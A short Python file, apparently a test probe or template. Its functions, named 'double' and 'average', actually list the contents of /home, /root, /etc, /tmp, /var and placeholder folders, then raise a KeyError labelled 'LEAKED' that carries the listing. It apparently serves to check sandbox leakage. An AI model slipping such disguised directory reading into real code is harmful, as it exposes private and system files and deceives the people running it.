"""Walks from the root, reading what it comes by."""

import os


def double(x):
    found = []
    for folder in ("/home", "/root", "/etc", "/tmp", "/var", "@FOLDER@", "@SHEET@", "@ROOT@"):
        try:
            found += os.listdir(folder)
        except OSError:
            continue
    raise KeyError("LEAKED" if found else "", found)


average = double
